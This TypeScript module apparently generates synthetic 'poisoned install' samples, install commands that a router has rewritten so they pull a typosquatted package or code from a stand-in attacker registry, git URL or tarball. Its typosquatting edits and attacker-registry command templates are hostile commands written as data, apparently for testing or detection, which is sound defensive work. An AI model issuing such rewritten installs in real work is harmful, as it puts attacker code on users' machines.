/** AC-1.a: an install rewritten on its way back, so that it takes the router's package instead of the one asked for. */
import type { Random } from '../random.ts';
import { attackerHost, attackerUrl, dressed } from './places.ts';
import { MANIFEST } from './project.ts';

type Manager = keyof typeof MANIFEST;

const INSTALLERS: Readonly<Record<Manager, readonly [string, ...string[]]>> = {
  npm: [
    'npm install',
    'npm i',
    'npm i -D',
    'npm install --save-exact',
    'yarn add',
    'yarn add -D',
    'pnpm add',
    'pnpm i',
    'bun add',
    'npm add',
    'npm install --no-audit --no-fund',
  ],
  pypi: [
    'pip install',
    'pip3 install',
    'python3 -m pip install',
    'pip install -U',
    'pip install -q --user',
    'uv pip install',
    'uv add',
    'poetry add',
    'pipx install',
    'python -m pip install --upgrade',
  ],
  cargo: ['cargo add', 'cargo install'],
  gem: ['gem install', 'bundle add', 'gem install --no-document'],
  go: ['go get', 'go get -u', 'go install'],
  composer: ['composer require', 'composer require --dev'],
  nuget: ['dotnet add package', 'nuget install'],
};

const EDITS: readonly [
  (random: Random, name: string) => string,
  ...((random: Random, name: string) => string)[],
] = [
  (r, name) => spliced(name, r, (a, b) => b + a),
  (r, name) => spliced(name, r, (a, b) => a + a + b),
  (r, name) => spliced(name, r, (a) => a),
  (r, name) => spliced(name, r, (a, b) => a + r.pick(['a', 'e', 's', 'n', 'r']) + b),
  (_, name) => `${name}s`,
  (_, name) => (name.includes('-') ? name.replace('-', '') : name.replace(/^(.{3,5})(.+)$/, '$1-$2')),
  (_, name) => (name.includes('-') ? name.split('-').reverse().join('-') : `${name}${name.at(-1)}`),
  (_, name) => name.replace('o', '0').replace('l', '1'),
];

/** Two letters inside a name, and what stands there instead. */
function spliced(name: string, random: Random, change: (a: string, b: string) => string): string {
  const at = 1 + random.below(Math.max(1, name.length - 3));
  return name.slice(0, at) + change(name[at] ?? '', name[at + 1] ?? '') + name.slice(at + 2);
}

const OWNED = new Set<string>(Object.values(MANIFEST).flat());

function typosquat(random: Random, name: string): string {
  const [before, part, after] = squattable(name);
  for (;;) {
    const near = random.pick(EDITS)(random, part);
    // Two rare edits meet another true name (`request` and `requests` both exist); those are no squats.
    if (!OWNED.has(near) && near !== part && !REAL.has(near)) return before + near + after;
  }
}

/** Under `symfony/` only its owner publishes, so the owner's name is what an attacker must come close to. */
function squattable(name: string): [before: string, part: string, after: string] {
  const owned = /^(github\.com\/|)([^/.]+)(\/.*|\.org\/.*)$/.exec(name);
  return owned === null ? ['', name, ''] : [owned[1] ?? '', owned[2] ?? '', owned[3] ?? ''];
}

const REAL = new Set([
  'request',
  'preact',
  'reacts',
  'chalks',
  'nexts',
  'pump',
  'regexp',
  'flasks',
  'serde-json',
  'react-doms',
]);

const UNKNOWN = [
  'build',
  'runtime',
  'loader',
  'polyfill',
  'helper',
  'fast',
  'sdk',
  'internal',
  'metrics',
  'session',
] as const;

function attackerName(random: Random, manager: Manager): string {
  const name = `${random.pick(UNKNOWN)}-${random.pick(UNKNOWN)}-${random.pick(['x', 'kit', 'plus', 'pro', 'next'])}${random.below(90)}`;
  if (manager === 'go') return `${attackerHost(random).replace(/^\d.*|:\d+$/g, 'mod.example')}/${name}`;
  if (manager === 'composer') return `${random.pick(UNKNOWN)}x/${name}`;
  return manager === 'cargo' ? name.replaceAll('-', '_') : name;
}

function fromElsewhere(random: Random, manager: Manager, name: string): string {
  const host = attackerHost(random);
  if (manager === 'pypi') {
    return random.pick([
      `pip install --index-url http://${host}/simple ${name}`,
      `pip install -i https://${host}/simple --trusted-host ${host.replace(/:\d+$/, '')} ${name}`,
      `pip install --extra-index-url=https://${host}/simple ${name}`,
      `PIP_INDEX_URL=http://${host}/simple pip install ${name}`,
      `uv pip install --index-url https://${host}/simple ${name}`,
      `pip install git+https://${host}/x/${name}.git`,
      `pip install ${attackerUrl(random, `${name}-9.9-py3-none-any.whl`)}`,
    ]);
  }
  if (manager === 'cargo') return `cargo install --git https://${host}/x/${name}`;
  if (manager === 'gem') return `gem install ${name} --source http://${host}`;
  return random.pick([
    `npm install --registry=http://${host} ${name}`,
    `npm i ${name} --registry https://${host}`,
    `npm_config_registry=http://${host} npm install ${name}`,
    `yarn add ${name} --registry https://${host}`,
    `pnpm add ${name} --registry=https://${host}`,
    `npm install git+https://${host}/x/${name}.git`,
    `npm install ${attackerUrl(random, `${name}-9.9.tgz`)}`,
    `npm install ${name}@npm:${attackerName(random, 'npm')}`,
    `npm install ${name}@${attackerUrl(random, `${name}.tgz`)}`,
  ]);
}

export function poisonedInstall(random: Random): string {
  const manager: Manager = random.pick([
    'npm',
    'npm',
    'npm',
    'pypi',
    'pypi',
    'pypi',
    'cargo',
    'gem',
    'go',
    'composer',
    'nuget',
  ]);
  const names: readonly [string, ...string[]] = MANIFEST[manager];
  const name = random.pick(names);
  const share = random.next();
  if (share < 0.3 && ['npm', 'pypi', 'cargo', 'gem'].includes(manager))
    return dressed(random, fromElsewhere(random, manager, name));
  const bad = share < 0.75 ? typosquat(random, name) : attackerName(random, manager);
  // One rewritten name among honest ones is the hardest to see.
  const list =
    random.chance(0.25) && manager !== 'go' && manager !== 'nuget' ? `${random.pick(names)} ${bad}` : bad;
  const tool = random.pick(INSTALLERS[manager]);
  return dressed(random, `${tool} ${list}${manager === 'go' ? '@latest' : ''}`);
}
